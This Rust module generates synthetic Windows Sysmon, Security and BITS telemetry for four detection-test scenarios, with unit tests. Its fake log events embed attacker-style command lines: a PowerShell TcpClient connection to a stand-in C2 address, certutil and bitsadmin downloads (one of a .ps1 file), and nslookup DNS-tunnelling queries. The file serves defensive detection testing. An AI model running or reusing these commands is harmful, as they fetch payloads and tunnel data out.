//! The seed page's four test scenarios ("Testing Methodology"), each as the
//! seed describes its telemetry and, where research shows Windows logs it
//! differently (SIGMA-NOTES §3), as Windows really does:
//!
//! * scenario 3: `nslookup` talks to the named server itself, so Sysmon logs
//!   its UDP 53 connection but no DNS query (EID 22), and the DNS client logs
//!   no 3020;
//! * scenario 4: BITS transfers are made by the BITS service inside
//!   `svchost.exe`, not by `bitsadmin.exe`, and BITS-Client logs the job.

use crate::background;
use crate::event::WinEvent;
use crate::telemetry::{finish, Builder, Host};

/// How a scenario's telemetry is generated.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum Variant {
    /// As the seed page's "Expected signal" describes it.
    AsDescribed,
    /// As Windows really logs it, where that differs.
    Realistic,
}

impl Variant {
    /// Name in reports and file names.
    pub fn name(self) -> &'static str {
        match self {
            Variant::AsDescribed => "as-described",
            Variant::Realistic => "realistic",
        }
    }
}

/// A scenario of the seed page.
#[derive(Debug)]
pub struct Scenario {
    /// Stable id (`s1-powershell-tcpclient`).
    pub id: &'static str,
    /// Its number on the seed page.
    pub number: u8,
    /// Title.
    pub title: &'static str,
    /// ATT&CK techniques it exercises.
    pub attack: &'static [&'static str],
    /// The seed page's "Expected signal", verbatim.
    pub expected: &'static str,
    /// Where Windows differs from the seed's description (`None`: it does not,
    /// and the scenario has one variant).
    pub realistic: Option<&'static str>,
}

impl Scenario {
    /// The variants worth generating.
    pub fn variants(&self) -> Vec<Variant> {
        match self.realistic {
            Some(_) => vec![Variant::AsDescribed, Variant::Realistic],
            None => vec![Variant::AsDescribed],
        }
    }
}

/// An event a detection should fire on.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Signal {
    /// What it shows.
    pub description: String,
    /// Its channel.
    pub channel: &'static str,
    /// Its event id.
    pub event_id: u16,
    /// Its record id within the channel.
    pub record_id: u64,
}

/// A scenario's telemetry.
pub struct Generated {
    /// The scenario.
    pub scenario: &'static Scenario,
    /// The variant.
    pub variant: Variant,
    /// Every event, in time order, record ids numbered per channel.
    pub events: Vec<WinEvent>,
    /// The events a detection should fire on.
    pub signals: Vec<Signal>,
    /// The benign background events: channel and record id.
    pub background: Vec<(&'static str, u64)>,
}

/// Generation settings.
#[derive(Clone, Debug)]
pub struct Options {
    /// Random seed.
    pub seed: u64,
    /// When the scenario starts (µs since the epoch).
    pub start_us: i64,
    /// Benign background events mixed in.
    pub background: usize,
}

static SCENARIOS: [Scenario; 4] = [
    Scenario {
        id: "s1-powershell-tcpclient",
        number: 1,
        title: "PowerShell C2 simulation over HTTPS port 443",
        attack: &["T1059.001", "T1071.001", "T1571"],
        expected: "Sysmon Event ID 1: Process Create for powershell.exe with the TcpClient command in CommandLine. Sysmon Event ID 3: Network Connection to 93.184.216.34:443 with Image=powershell.exe. DeviceNetworkEvents in MDE will show InitiatingProcessFileName=powershell.exe, RemotePort=443, RemoteIPType=Public.",
        realistic: None,
    },
    Scenario {
        id: "s2-certutil-download",
        number: 2,
        title: "certutil.exe HTTP download over port 80",
        attack: &["T1105", "T1071.001"],
        expected: "Sysmon Event ID 1: Process Create for certutil.exe with -urlcache and -f in CommandLine. Sysmon Event ID 3: Network Connection to 93.184.216.34:80 with Image containing certutil.exe. Sysmon Event ID 11: File Create for the output file in %TEMP%. Security Event ID 4688 if process creation auditing enabled.",
        realistic: None,
    },
    Scenario {
        id: "s3-nslookup-dns-tunnel",
        number: 3,
        title: "DNS tunnelling simulation via nslookup long labels",
        attack: &["T1071.004", "T1048"],
        expected: "Sysmon Event ID 3: 10 Network Connection events to 8.8.8.8:53 with Image=nslookup.exe. The high-entropy subdomain labels are visible in DNS query logs if DNS logging is enabled. Windows DNS Client Event ID 3020 in Microsoft-Windows-DNS-Client/Operational for each resolution attempt.",
        realistic: Some("nslookup sends its own UDP queries to the server it is given: Sysmon logs the connections (EID 3, udp) but no DNS query (EID 22 covers only the Windows resolver), and the DNS client logs no 3020"),
    },
    Scenario {
        id: "s4-bitsadmin-download",
        number: 4,
        title: "bitsadmin.exe HTTPS download over port 443",
        attack: &["T1197", "T1105"],
        expected: "Sysmon Event ID 1: Process Create for bitsadmin.exe with /transfer and /download in CommandLine. Sysmon Event ID 3: Network Connection to 93.184.216.34:443 with Image containing bitsadmin.exe. Sysmon Event ID 11: File create event for output file on success. Security Event ID 4688 with command line if process creation auditing enabled.",
        realistic: Some("the BITS service (svchost.exe -k netsvcs -p -s BITS) makes the connection and writes the file, not bitsadmin.exe; BITS-Client logs the job (3), the transfer (59, 60) and its completion (4)"),
    },
];

/// The four scenarios.
pub fn all() -> &'static [Scenario] {
    &SCENARIOS
}

const C2: &str = "93.184.216.34";
const SECOND: i64 = 1_000_000;
const TEMP: &str = "C:\\Users\\alex\\AppData\\Local\\Temp";

/// Generates one scenario variant.
pub fn generate(s: &'static Scenario, variant: Variant, opts: &Options) -> Generated {
    let mut b = Builder::new(
        opts.seed ^ u64::from(s.number) << 32 ^ variant as u64,
        Host::workstation(),
    );
    let t0 = opts.start_us;
    let mut signals: Vec<(usize, String)> = Vec::new();
    let realistic = variant == Variant::Realistic;
    match s.number {
        1 => {
            let cmd = format!(
                "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoProfile -Command \"$c = New-Object System.Net.Sockets.TcpClient('{C2}', 443); $s = $c.GetStream(); $c.Close()\""
            );
            let p = b.process(
                "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                &cmd,
                "PowerShell.EXE",
                None,
            );
            b.sysmon_process(&p, t0);
            b.security_process(&p, t0 + 1_200);
            let i = b.sysmon_connect(&p, t0 + 2 * SECOND, "tcp", (C2, 443), "-");
            signals.push((i, format!("Sysmon 3: powershell.exe -> {C2}:443/tcp")));
            let i = b.security_connect(&p, t0 + 2 * SECOND + 300, 6, (C2, 443));
            signals.push((i, format!("Security 5156: powershell.exe -> {C2}:443/tcp")));
        }
        2 => {
            let shell = b.process(
                "C:\\Windows\\System32\\cmd.exe",
                "\"C:\\Windows\\system32\\cmd.exe\"",
                "Cmd.Exe",
                None,
            );
            let out = format!("{TEMP}\\Atomic-license.txt");
            let cmd = format!("certutil.exe -urlcache -split -f http://{C2}/LICENSE.txt {out}");
            let p = b.process(
                "C:\\Windows\\System32\\certutil.exe",
                &cmd,
                "CertUtil.exe",
                Some(&shell),
            );
            b.sysmon_process(&shell, t0 - 30 * SECOND);
            b.sysmon_process(&p, t0);
            b.security_process(&p, t0 + 900);
            let i = b.sysmon_connect(&p, t0 + SECOND, "tcp", (C2, 80), "-");
            signals.push((i, format!("Sysmon 3: certutil.exe -> {C2}:80/tcp")));
            let i = b.security_connect(&p, t0 + SECOND + 250, 6, (C2, 80));
            signals.push((i, format!("Security 5156: certutil.exe -> {C2}:80/tcp")));
            b.sysmon_file(
                &p,
                t0 + SECOND + 400_000,
                "C:\\Users\\alex\\AppData\\LocalLow\\Microsoft\\CryptnetUrlCache\\Content\\2D3B5F6E1C0A4D8B9E7F6A5B4C3D2E1F",
            );
            b.sysmon_file(&p, t0 + SECOND + 450_000, &out);
        }
        3 => {
            for n in 0..10 {
                let t = t0 + n * 3 * SECOND;
                let label = b.rng.text(b"abcdefghijklmnopqrstuvwxyz234567", 52);
                let name = format!("{label}.{n:02x}.tunnel.t1043-lab.example");
                let cmd = format!("nslookup.exe {name} 8.8.8.8");
                let p = b.process(
                    "C:\\Windows\\System32\\nslookup.exe",
                    &cmd,
                    "nslookup.exe",
                    None,
                );
                let i = b.sysmon_process(&p, t);
                signals.push((
                    i,
                    format!(
                        "Sysmon 1: nslookup.exe with a {}-character label",
                        label.len()
                    ),
                ));
                let i = b.security_process(&p, t + 700);
                signals.push((i, "Security 4688: nslookup.exe with a long label".into()));
                let i = b.sysmon_connect(&p, t + 40_000, "udp", ("8.8.8.8", 53), "dns.google");
                signals.push((i, "Sysmon 3: nslookup.exe -> 8.8.8.8:53/udp".into()));
                let i = b.security_connect(&p, t + 40_300, 17, ("8.8.8.8", 53));
                signals.push((i, "Security 5156: nslookup.exe -> 8.8.8.8:53/udp".into()));
                if !realistic {
                    let i = b.sysmon_dns(&p, t + 41_000, &name, "");
                    signals.push((i, "Sysmon 22: query for the long label".into()));
                    let i = b.dns_client_response(t + 42_000, &name, 9003, "");
                    signals.push((i, "DNS-Client 3020: response for the long label".into()));
                }
            }
        }
        _ => {
            let out = format!("{TEMP}\\bitsadmin1_flag.ps1");
            let url = format!("https://{C2}/T1197/bitsadmin1_flag.ps1");
            let cmd = format!(
                "bitsadmin.exe /transfer qcxjb7 /download /priority foreground {url} {out}"
            );
            let p = b.process(
                "C:\\Windows\\System32\\bitsadmin.exe",
                &cmd,
                "bitsadmin.exe",
                None,
            );
            let i = b.sysmon_process(&p, t0);
            signals.push((i, "Sysmon 1: bitsadmin.exe /transfer /download".into()));
            let i = b.security_process(&p, t0 + 800);
            signals.push((i, "Security 4688: bitsadmin.exe /transfer /download".into()));
            if realistic {
                let job = b.rng.guid();
                let svc = b.service(
                    "C:\\Windows\\System32\\svchost.exe",
                    "C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s BITS",
                    "svchost.exe",
                );
                let i = b.bits_job_created(&p, t0 + 300_000, "qcxjb7", &job);
                signals.push((i, "BITS-Client 3: job created by bitsadmin.exe".into()));
                let i = b.bits_transfer(t0 + 600_000, 59, "qcxjb7", &job, &url);
                signals.push((i, format!("BITS-Client 59: transfer of {url} started")));
                // Not what a detection should key on (svchost talks all day), but
                // the connection the seed expects to see, so the report can say
                // why its rule does not fire on it.
                let i = b.sysmon_connect(&svc, t0 + 700_000, "tcp", (C2, 443), "-");
                signals.push((i, format!("Sysmon 3: svchost.exe (BITS service) -> {C2}:443/tcp, the transfer bitsadmin asked for")));
                let i = b.security_connect(&svc, t0 + 700_300, 6, (C2, 443));
                signals.push((
                    i,
                    format!("Security 5156: svchost.exe (BITS service) -> {C2}:443/tcp"),
                ));
                b.sysmon_file(&svc, t0 + SECOND, &format!("{TEMP}\\BIT7A3F.tmp"));
                b.bits_transfer(t0 + SECOND + 200_000, 60, "qcxjb7", &job, &url);
                b.bits_job_completed(&p, t0 + SECOND + 300_000, "qcxjb7", &job);
            } else {
                let i = b.sysmon_connect(&p, t0 + 700_000, "tcp", (C2, 443), "-");
                signals.push((i, format!("Sysmon 3: bitsadmin.exe -> {C2}:443/tcp")));
                let i = b.security_connect(&p, t0 + 700_300, 6, (C2, 443));
                signals.push((i, format!("Security 5156: bitsadmin.exe -> {C2}:443/tcp")));
                b.sysmon_file(&p, t0 + SECOND, &out);
            }
        }
    }
    let own = b.events.len();
    background::add(
        &mut b,
        t0 - 120 * SECOND,
        t0 + 120 * SECOND,
        opts.background,
    );
    let mut events = std::mem::take(&mut b.events);
    let position = finish(&mut events, 1000 + u64::from(s.number) * 10_000);
    let background = position[own..]
        .iter()
        .map(|&p| (events[p].provider.channel, events[p].record_id))
        .collect();
    let signals = signals
        .into_iter()
        .map(|(i, description)| {
            let ev = &events[position[i]];
            Signal {
                description,
                channel: ev.provider.channel,
                event_id: ev.event_id,
                record_id: ev.record_id,
            }
        })
        .collect();
    Generated {
        scenario: s,
        variant,
        events,
        signals,
        background,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn opts(background: usize) -> Options {
        Options {
            seed: 42,
            start_us: 1_764_000_000_000_000,
            background,
        }
    }

    #[test]
    fn each_variant_has_signals_that_point_at_its_events() {
        for s in all() {
            for v in s.variants() {
                let g = generate(s, v, &opts(50));
                assert!(!g.signals.is_empty(), "{} {v:?}", s.id);
                for sig in &g.signals {
                    let hits = g
                        .events
                        .iter()
                        .filter(|e| {
                            e.provider.channel == sig.channel
                                && e.record_id == sig.record_id
                                && e.event_id == sig.event_id
                        })
                        .count();
                    assert_eq!(hits, 1, "{} {v:?} {}", s.id, sig.description);
                }
                assert!(g.events.windows(2).all(|w| w[0].time_us <= w[1].time_us));
            }
        }
    }

    #[test]
    fn realistic_variants_change_what_the_research_says() {
        let s3 = &all()[2];
        let seed = generate(s3, Variant::AsDescribed, &opts(0));
        let real = generate(s3, Variant::Realistic, &opts(0));
        let count = |g: &Generated, id: u16| g.events.iter().filter(|e| e.event_id == id).count();
        assert_eq!(count(&seed, 3), 10, "ten connections to 8.8.8.8:53");
        assert_eq!((count(&seed, 22), count(&seed, 3020)), (10, 10));
        assert_eq!((count(&real, 22), count(&real, 3020)), (0, 0));

        let s4 = &all()[3];
        let real = generate(s4, Variant::Realistic, &opts(0));
        let conn = real
            .events
            .iter()
            .find(|e| e.event_id == 3 && e.provider.name == "Microsoft-Windows-Sysmon")
            .unwrap();
        assert!(conn.get("Image").unwrap().text().ends_with("svchost.exe"));
        assert!(real
            .events
            .iter()
            .any(|e| e.provider.channel.contains("Bits-Client")));
    }

    #[test]
    fn generation_is_reproducible() {
        let s = &all()[0];
        let a = generate(s, Variant::AsDescribed, &opts(30));
        let b = generate(s, Variant::AsDescribed, &opts(30));
        assert_eq!(a.events, b.events);
        assert_eq!(a.events.len(), 4 + 30);
        assert_eq!(a.background.len(), 30);
    }
}
